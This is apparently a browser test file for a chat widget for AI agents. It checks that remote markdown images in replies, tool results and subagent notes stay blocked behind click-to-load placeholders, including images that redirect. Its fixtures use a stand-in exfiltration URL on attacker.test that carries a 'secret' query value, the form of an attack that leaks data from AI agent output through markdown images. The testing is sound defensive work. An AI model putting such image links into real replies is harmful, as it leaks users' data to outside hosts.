import { expect, fixture, html } from '@open-wc/testing';
import type { AgentChat } from '../../../src/agent-chat/agent-chat.js';
import type { ChatEvent } from '../../../src/protocol/contract.js';
import type { Transport } from '../../../src/protocol/contract.js';
import { loadStrings } from '../../../src/i18n/strings.js';
import '../../../src/components/message/user-attachments.js';
import type { AgentChatUserAttachments } from '../../../src/components/message/user-attachments.js';
import type { Attachment } from '../../../src/conversation/types.js';
import { deepQuery, deepQueryAll, fixtureWithSettings, sendAndWait, settle, until } from '../helpers.js';

const REMOTE = 'https://attacker.test/pixel.png?d=secret';
const GIF = Uint8Array.from(atob('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs='), (c) => c.charCodeAt(0));

/**
 * The page's own server, as far as images go: `/own-pixel*` is a picture, `/own-redirect*` an
 * open redirect to another origin (a stand-in for `fetch`; everything else goes to the network).
 */
const realFetch = window.fetch;
const ownServer = (async (input: RequestInfo | URL, init?: RequestInit) => {
  const url = new URL(String(input instanceof Request ? input.url : input), location.href);
  if (url.origin === location.origin && url.pathname.startsWith('/own-pixel')) return new Response(GIF, { headers: { 'content-type': 'image/gif' } });
  if (url.origin === location.origin && url.pathname.startsWith('/own-redirect')) {
    return new Response(null, { status: 302, headers: { location: `https://attacker.test${url.pathname}${url.search}` } });
  }
  return realFetch(input, init);
}) as typeof fetch;

/** A backend whose reply shows a remote image in its text, in a tool's markdown result and in a subagent's note. */
const imageTransport: Transport = {
  async *run(request): AsyncGenerator<ChatEvent> {
    yield { type: 'run-started', runId: request.runId };
    yield { type: 'text-delta', messageId: 'm', delta: `Look: ![chart](${REMOTE}) and ![own](/own-pixel.gif)` };
    yield { type: 'tool-call-start', toolCallId: 'c', name: 'report' };
    yield { type: 'tool-call-end', toolCallId: 'c' };
    yield { type: 'tool-call-result', toolCallId: 'c', content: `## Report\n\n- item\n\n![in result](${REMOTE})` };
    yield { type: 'subagent-started', subagentRunId: 's', name: 'researcher' };
    yield { type: 'text-delta', messageId: 'sm', delta: `Note ![in note](${REMOTE})`, subagentRunId: 's' };
    yield { type: 'subagent-finished', subagentRunId: 's' };
    yield { type: 'run-finished' };
  },
};

async function chatWith(images?: string): Promise<AgentChat> {
  const el = await fixture<AgentChat>(html`<agent-chat storage="none" tool-cards="open" images=${images ?? 'click'}></agent-chat>`);
  el.transport = imageTransport;
  await sendAndWait(el, 'show me');
  return el;
}

const remoteImages = (el: AgentChat) => deepQueryAll<HTMLImageElement>(el, 'img').filter((image) => image.getAttribute('src')!.includes('attacker.test'));

describe('<agent-chat> images', () => {
  before(() => (window.fetch = ownServer));
  after(() => (window.fetch = realFetch));

  it('by default no image from another origin is in the page: text, tool results and subagent notes show placeholders', async () => {
    const el = await chatWith();
    expect(remoteImages(el).length).to.equal(0);
    const placeholders = deepQueryAll<HTMLButtonElement>(el, 'button.image-placeholder');
    expect(placeholders.map((button) => button.textContent)).to.deep.equal([
      'Show image from attacker.test (chart)',
      'Show image from attacker.test (in result)',
      'Show image from attacker.test (in note)',
    ]);
    const own = deepQuery<HTMLImageElement>(el, 'img[alt="own"]')!;
    await until(() => own.complete && own.naturalWidth > 0 && own.src.startsWith('blob:'), 'the page’s own image shows (its checked copy)');
    placeholders[0].click();
    expect(remoteImages(el).length).to.equal(1);
  });

  it('images="none" shows only the placeholders; images="allow" loads them; a wrong value is reported and means click', async () => {
    const none = await chatWith('none');
    expect(remoteImages(none).length).to.equal(0);
    expect(deepQueryAll(none, 'span.image-placeholder').length).to.equal(3);
    expect(deepQueryAll(none, 'button.image-placeholder').length).to.equal(0);
    const allowed = await chatWith('allow');
    expect(remoteImages(allowed).length).to.equal(3);
    const wrong = await chatWith('sometimes');
    expect(remoteImages(wrong).length).to.equal(0);
    expect(deepQuery(wrong, '.config-error')?.textContent ?? '').to.contain('images="sometimes"');
  });

  it('speaks the chat’s language', async () => {
    const el = await fixture<AgentChat>(html`<agent-chat storage="none" lang="de"></agent-chat>`);
    await loadStrings('de');
    await settle(el);
    el.transport = imageTransport;
    await sendAndWait(el, 'zeig');
    await settle(el);
    expect(deepQuery(el, 'button.image-placeholder')?.textContent).to.equal('Bild von attacker.test anzeigen (chart)');
  });

  it('keeps an image the person chose to load when the chat’s language changes; the other placeholders follow it', async () => {
    const el = await chatWith();
    await loadStrings('de');
    deepQueryAll<HTMLButtonElement>(el, 'button.image-placeholder')[0].click();
    expect(remoteImages(el).length).to.equal(1);
    el.lang = 'de';
    await settle(el);
    await settle(el);
    expect(remoteImages(el).map((image) => image.alt)).to.deep.equal(['chart']);
    expect(deepQueryAll(el, 'button.image-placeholder').map((button) => button.textContent)).to.deep.equal([
      'Bild von attacker.test anzeigen (in result)',
      'Bild von attacker.test anzeigen (in note)',
    ]);
  });

  it('an image of the page’s own origin that redirects waits for a click, in a reply, a tool result and a sent file', async () => {
    const transport: Transport = {
      async *run(request): AsyncGenerator<ChatEvent> {
        yield { type: 'run-started', runId: request.runId };
        yield { type: 'text-delta', messageId: 'm', delta: 'Own ![own](/own-pixel.gif?r) via ![away](/own-redirect/a.png?d=secret)' };
        yield { type: 'tool-call-start', toolCallId: 'c', name: 'report' };
        yield { type: 'tool-call-end', toolCallId: 'c' };
        yield { type: 'tool-call-result', toolCallId: 'c', content: '## Report\n\n- item\n\n![in result](/own-redirect/r.png)' };
        yield { type: 'run-finished' };
      },
    };
    const el = await fixture<AgentChat>(html`<agent-chat storage="none" tool-cards="open"></agent-chat>`);
    el.transport = transport;
    await sendAndWait(el, 'show me');
    const placeholders = () => deepQueryAll<HTMLButtonElement>(el, 'button.image-placeholder').map((button) => button.textContent);
    await until(() => placeholders().length === 2, 'a placeholder for each redirecting image');
    expect(placeholders()).to.deep.equal([`Show image from ${location.host}, which redirects (away)`, `Show image from ${location.host}, which redirects (in result)`]);
    expect(deepQueryAll(el, 'img').some((image) => (image.getAttribute('src') ?? '').includes('own-redirect'))).to.equal(false);
    const own = deepQuery<HTMLImageElement>(el, 'img[alt="own"]')!;
    await until(() => own.complete && own.naturalWidth > 0, 'the page’s own image shows');
    deepQuery<HTMLButtonElement>(el, 'button.image-placeholder')!.click();
    expect(deepQuery(el, 'img[alt="away"]')!.getAttribute('src')).to.equal('/own-redirect/a.png?d=secret');

    const sent: Attachment[] = [
      { id: 'a', name: 'moved.png', mimeType: 'image/png', size: 10, url: `${location.origin}/own-redirect/sent.png` },
      { id: 'b', name: 'here.png', mimeType: 'image/png', size: 10, url: `${location.origin}/own-pixel-sent.png` },
    ];
    const view = await fixtureWithSettings<AgentChatUserAttachments>(html`<agent-chat-user-attachments .attachments=${sent}></agent-chat-user-attachments>`);
    await until(() => view.shadowRoot!.querySelector('button') !== null && view.shadowRoot!.querySelector('img') !== null, 'the sent files drawn once checked');
    const shownImages = () => [...view.shadowRoot!.querySelectorAll('img')].map((image) => image.getAttribute('src') ?? '');
    expect(shownImages().length).to.equal(1);
    expect(shownImages()[0].startsWith('blob:')).to.equal(true, 'the direct one shows its checked copy');
    expect(view.shadowRoot!.querySelector('a.thumb')!.getAttribute('href')).to.equal(shownImages()[0], 'its link opens the copy too');
    const button = view.shadowRoot!.querySelector('button')!;
    expect(button.textContent).to.contain(`Show image from ${location.host}, which redirects`);
    button.click();
    await view.updateComplete;
    expect(shownImages()).to.include(`${location.origin}/own-redirect/sent.png`);

    const none = await fixtureWithSettings<AgentChatUserAttachments>(html`<agent-chat-user-attachments .attachments=${sent}></agent-chat-user-attachments>`, {
      display: { images: 'none' },
    });
    await until(() => none.shadowRoot!.querySelector('img') !== null, 'the direct one shows');
    expect(none.shadowRoot!.querySelector('button')).to.equal(null);
    expect(none.shadowRoot!.textContent).to.contain(`Image from ${location.host} not shown`);
  });
});
